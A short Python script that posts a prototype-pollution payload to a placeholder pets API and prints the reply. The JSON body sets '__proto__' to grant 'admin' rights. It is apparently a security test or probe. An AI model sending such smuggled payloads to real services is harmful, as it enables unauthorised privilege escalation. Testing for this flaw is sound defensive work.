import requests

response = requests.post(
    "https://api.example.com/v1/pets",
    json={"__proto__": {"admin": True}, "constructor": "x"},
)
print(response.text)
